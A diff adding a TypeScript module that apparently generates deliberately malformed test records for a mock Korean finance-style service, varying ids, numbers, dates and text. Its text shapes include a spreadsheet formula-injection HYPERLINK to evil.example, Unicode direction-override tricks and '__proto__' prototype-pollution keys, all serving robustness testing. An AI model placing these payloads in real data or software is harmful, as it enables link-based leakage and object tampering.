@@ -1,0 +1,283 @@
+/** From what is true to what this service says: values, ids, members. */
+
+import type { Shape } from '../shape/dimensions';
+import { type Json, placed, Raw } from './json';
+import { type Kind, type ListName, specOf } from './lists';
+import type { TrueRecord, Value } from './truth';
+
+/** undefined: the member is left out. */
+export function spelled(
+  value: Value,
+  path: string,
+  kind: Kind,
+  record: TrueRecord,
+  shape: Shape,
+): Json | undefined {
+  if (kind === 'boolean') return booleanOf(value, path, shape);
+  if (value === null) return nothing(shape);
+  if (kind === 'money') return numberOf(value as number, record, shape);
+  if (kind === 'decimal') return shape.numbers === 'plain' ? value : String(value);
+  if (kind === 'time') return timeOf(value as string, record, shape);
+  if (kind === 'date') return dateOf(value as string, shape);
+  if (kind === 'free') return freeText(value as string, record, shape);
+  if (typeof kind !== 'string') return codeOf(value as string, path, record, shape);
+  return value;
+}
+
+function nothing(shape: Shape): Json | undefined {
+  if (shape.nothing === 'missing') return undefined;
+  return shape.nothing === 'empty' ? '' : null;
+}
+
+function booleanOf(value: Value, path: string, shape: Shape): Json | undefined {
+  if (value === null) return nothing(shape);
+  switch (shape.booleans) {
+    case 'texts':
+      return String(value);
+    case 'Y and N':
+      return value === true ? 'Y' : 'N';
+    case 'ones':
+      return value === true ? 1 : 0;
+    case 'missing':
+      // What counts is left out; what does not count has to be said.
+      return path === 'isIncluded' && value === true ? undefined : value;
+    default:
+      return value;
+  }
+}
+
+function numberOf(value: number, record: TrueRecord, shape: Shape): Json | undefined {
+  if (record.isOdd) {
+    switch (shape.oddNumber) {
+      case 'separators':
+        return withSeparators(value);
+      case 'words':
+        return `약 ${value}원`;
+      case 'null':
+        return null;
+      case 'empty':
+        return '';
+      case 'decimals':
+        return new Raw(`${value}.123456789012`);
+      case 'digits':
+        return new Raw(`12345678901234567`);
+      case 'object':
+        return { value, currency: 'KRW' };
+      default:
+    }
+  }
+  switch (shape.numbers) {
+    case 'texts':
+      return String(value);
+    case 'separators':
+      return withSeparators(value);
+    case 'point zeros':
+      return `${value}.00`;
+    default:
+      return value;
+  }
+}
+
+function withSeparators(value: number): string {
+  return String(value).replace(/\B(?=(\d{3})+$)/g, ',');
+}
+
+const HOUR_MS = 3_600_000;
+
+/** Milliseconds since the epoch of a Korean wall-clock time. */
+export function instantOf(local: string): number {
+  return Date.parse(`${local}+09:00`);
+}
+
+function timeOf(local: string, record: TrueRecord, shape: Shape): Json {
+  if (record.isOdd) {
+    switch (shape.oddTime) {
+      case 'words':
+        return '오전 중';
+      case 'impossible':
+        return '2026-13-45T99:00:00';
+      case 'null':
+        return null;
+      case 'slashes':
+        return local.slice(0, 10).replace(/-/g, '/');
+      case 'milliseconds':
+        return instantOf(local);
+      default:
+    }
+  }
+  const [day = '', clock = ''] = local.split('T');
+  switch (shape.times) {
+    case 'zulu':
+      return new Date(instantOf(local)).toISOString();
+    case 'offset':
+      return `${new Date(instantOf(local) + 2 * HOUR_MS).toISOString().slice(0, 19)}+02:00`;
+    case 'space':
+      return `${day} ${clock}`;
+    case 'slashes':
+      return `${day.replace(/-/g, '/')} ${clock}`;
+    case 'dots':
+      return `${day.replace(/-/g, '.')} ${clock}`;
+    case 'eight digits':
+      return day.replace(/-/g, '');
+    case 'seconds':
+      return instantOf(local) / 1000;
+    case 'milliseconds':
+      return instantOf(local);
+    case 'array':
+      return [...day.split('-'), ...clock.split(':')].map(Number);
+    default:
+      return local;
+  }
+}
+
+/** 'eight digits' and the like say the day alone. */
+export function saysDayOnly(record: { readonly isOdd: boolean }, shape: Shape): boolean {
+  return shape.times === 'eight digits' || (record.isOdd && shape.oddTime === 'slashes');
+}
+
+function dateOf(day: string, shape: Shape): Json {
+  switch (shape.times) {
+    case 'slashes':
+      return day.replace(/-/g, '/');
+    case 'dots':
+      return day.replace(/-/g, '.');
+    case 'eight digits':
+      return day.replace(/-/g, '');
+    default:
+      return day;
+  }
+}
+
+function codeOf(code: string, path: string, record: TrueRecord, shape: Shape): Json {
+  // By these the service itself filters.
+  if (path === 'ticketType' || path === 'assetType') return code;
+  switch (shape.codes) {
+    case 'unlisted':
+      return record.nth % 5 === 2 && path !== 'transactionType' ? `${code}_V2` : code;
+    case 'lower case':
+      return code.toLowerCase();
+    case 'Korean':
+      return KOREAN[code] ?? code;
+    default:
+      return code;
+  }
+}
+
+const KOREAN: Readonly<Record<string, string>> = { IN: '입금', OUT: '출금', NONE: '없음', CONFIRMED: '확정' };
+
+export function freeText(text: string, record: TrueRecord, shape: Shape): string {
+  const dressed = record.nth % 3 === 0;
+  if (!dressed) return text;
+  switch (shape.texts) {
+    case 'decomposed':
+      return text.normalize('NFD');
+    case 'zero-width':
+      return `${text.slice(0, 2)}\u200b${text.slice(2)}\u200d`;
+    case 'right to left':
+      return `\u202e${text}\u202c`;
+    case 'formulas':
+      return `${'=+-@'.charAt(record.nth % 4)}HYPERLINK("https://evil.example/?${record.nth}";"${text}")`;
+    case 'long':
+      return record.isOdd || record.nth === 0 ? `${text} ${'긴글'.repeat(30_000)}` : text;
+    case 'lines':
+      return `${text}\r\n\t둘째 줄`;
+    case 'apostrophes':
+      return `'${text}`;
+    case 'numbers':
+      return `00${record.nth}`;
+    case 'padded':
+      return `  ${text} `;
+    default:
+      return text;
+  }
+}
+
+/** undefined: without the member. */
+export function idOf(list: ListName, record: TrueRecord, shape: Shape): Json | undefined {
+  const { nth } = record;
+  if (record.isOdd) {
+    switch (shape.oddId) {
+      case 'null':
+        return null;
+      case 'missing':
+        return undefined;
+      case 'padded':
+        return `  ${list.slice(0, 2)}-${nth} `;
+      case 'big number':
+        return new Raw(`90071992547409${93 + nth}`);
+      case 'empty':
+        return '';
+      case 'object':
+        return { $oid: `64b7${nth}` };
+      default:
+    }
+  }
+  switch (shape.ids) {
+    case 'uuids':
+      return `${hex(nth * 7919 + 17)}-4b1d-4c3e-9f00-${hex(nth + 3)}${hex(nth).slice(0, 4)}`;
+    case 'integers':
+      return 1001 + nth;
+    case 'numeric texts':
+      return String(1001 + nth);
+    case 'big texts':
+      return `71234567890123${String(45_000 + nth)}`;
+    case 'big numbers':
+      return new Raw(`71234567890123${String(45_001 + nth)}`);
+    case 'mixed':
+      // A list that was moved from one system to another.
+      return nth % 2 === 0 ? 1001 + nth : String(1001 + nth);
+    case 'twins':
+      // 1001 and "1001" are two records.
+      return nth % 2 === 0 ? 1001 + nth / 2 : String(1001 + (nth - 1) / 2);
+    default:
+      return `${list.slice(0, 2)}-${nth + 1}`;
+  }
+}
+
+function hex(n: number): string {
+  return n.toString(16).padStart(8, '0');
+}
+
+/** Whether an id names its record for whoever reads JSON as JavaScript does. */
+export function isUsable(id: Json | undefined): boolean {
+  if (typeof id === 'number') return Number.isSafeInteger(id);
+  return typeof id === 'string' && id !== '' && id.trim() === id;
+}
+
+/** A record as it is served. */
+export function render(list: ListName, record: TrueRecord, shape: Shape): { [name: string]: Json } {
+  const { fields, idless } = specOf(list);
+  const json: { [name: string]: Json } = {};
+  if (idless !== true) {
+    const id = idOf(list, record, shape);
+    if (id !== undefined) placed(json, ['id'], id);
+  }
+  for (const [path, kind] of Object.entries(fields)) {
+    const value = spelled(record.values[path] ?? null, path, kind, record, shape);
+    if (value !== undefined) placed(json, path.split('.'), value);
+  }
+  for (const [name, value] of extras(shape)) placed(json, [name], value);
+  return json;
+}
+
+function extras(shape: Shape): [string, Json][] {
+  switch (shape.extras) {
+    case 'few':
+      return [
+        ['workspaceId', 'w-1'],
+        ['audit', { by: 'kim', at: '2026-10-01' }],
+        ['labels', ['x', 'y']],
+      ];
+    case 'two hundred':
+      return Array.from({ length: 200 }, (_, i) => [`attr${i}`, i]);
+    case 'prototype':
+      return [
+        ['__proto__', { polluted: true }],
+        ['constructor', 'x'],
+        ['toString', 'x'],
+        ['hasOwnProperty', 1],
+      ];
+    default:
+      return [];
+  }
+}
